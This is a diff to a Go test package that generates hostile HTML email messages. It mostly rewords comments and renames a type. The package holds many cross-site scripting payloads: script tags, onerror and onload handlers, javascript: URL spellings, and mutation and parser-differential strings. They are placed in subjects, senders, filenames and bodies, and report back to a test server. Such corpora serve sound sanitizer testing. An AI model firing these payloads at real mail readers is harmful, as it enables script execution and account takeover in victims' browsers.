@@ -1,6 +1,5 @@
-// Package hostilemail makes mails that try what a mail can try on who reads it in
-// a browser: to run a script, to load something, to lead away the page around it.
-// It is for tests.
+// Package hostilemail creates messages that attack their reader in a browser: they try to run
+// a script, to load something, or to replace the page around them. It is for tests.
 package hostilemail
 
 import (
@@ -9,24 +8,24 @@ import (
 	"strings"
 )
 
-// Mail is one hostile mail.
-type Mail struct {
+// Message is one hostile message.
+type Message struct {
 	Name string // what it tries
-	// What its header says, and what its attached file is called.
+	// Its header fields, and the name of its attachment.
 	Subject, From, Filename string
 	HTML                    string
 }
 
-// All returns the mails. Every address in them begins with target, and each
-// script, if it runs, goes there: whoever listens at target hears of it.
-func All(target string) []Mail {
-	var all []Mail
+// All returns the messages. Every URL in them begins with target, and each script requests
+// one if it runs, so the server at target sees every successful attack.
+func All(target string) []Message {
+	var all []Message
 	script := fmt.Sprintf(`location='%s/script/ID'`, target)
 	add := func(name, source string) {
 		id := fmt.Sprintf("%03d", len(all)+1)
 		fill := strings.NewReplacer("RUN", strings.ReplaceAll(script, "ID", id), "URL", target+"/load/"+id, "TARGET", target, "ID", id).Replace
 		hostile := fill(headers[len(all)%len(headers)])
-		all = append(all, Mail{
+		all = append(all, Message{
 			Name: id + " " + name, HTML: fill(source),
 			Subject: hostile, From: hostile, Filename: strings.NewReplacer("/", "_", "\\", "_").Replace(hostile),
 		})
@@ -65,7 +64,7 @@ func All(target string) []Mail {
 	return all
 }
 
-// headers are what subjects, names and file names say.
+// headers are attacks for subjects, names and file names.
 var headers = []string{
 	`<script>RUN</script>`, `"><img src=URL onerror="RUN">`, `'><svg onload="RUN">`, `</title><script>RUN</script>`,
 	`{{.}}<script>RUN</script>`, `javascript:RUN`, `</textarea><img src=URL>`, `</script><script>RUN</script>`,
@@ -123,7 +122,7 @@ var foreign = []string{
 	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>">`,
 }
 
-// parsing are those where two readers may see different elements.
+// parsing are attacks that two parsers read as different elements.
 var parsing = []string{
 	`<noscript><p title="</noscript><img src=x onerror='RUN'>"></noscript>`, `<style><img title="</style><img src=x onerror='RUN'>"></style>`,
 	`<title><img title="</title><img src=x onerror='RUN'>"></title>`, `<textarea><img title="</textarea><img src=x onerror='RUN'>"></textarea>`,
@@ -139,7 +138,7 @@ var parsing = []string{
 	`<img src=x onerror` + "\u00a0" + `="RUN">`, `<=img src=x onerror="RUN">`, `<img src='x' ' onerror="RUN" '>`,
 }
 
-// mutations become something else when they are written and read again.
+// mutations change when they are serialized and parsed again.
 var mutations = []string{
 	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">`,
 	`<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=RUN src=1>">`,
@@ -211,13 +210,13 @@ var links = []string{
 	`<a href="filesystem:URL">x</a>`, `<a attributionsrc="URL" href="URL">x</a>`, `<a href="intent:URL">x</a>`,
 }
 
-// places are where an address may stand.
+// places are the places of an address.
 var places = []string{
 	`<a href="JS">x</a>`, `<img src="JS">`, `<iframe src="JS"></iframe>`, `<form action="JS"><button autofocus>x</button></form>`,
 	`<body background="JS">`,
 }
 
-// spellings are ways to write javascript: that some reader has understood.
+// spellings are spellings of a javascript: URL that some program has accepted.
 func spellings(run string) []string {
 	js := "javascript:" + run
 	var decimal strings.Builder
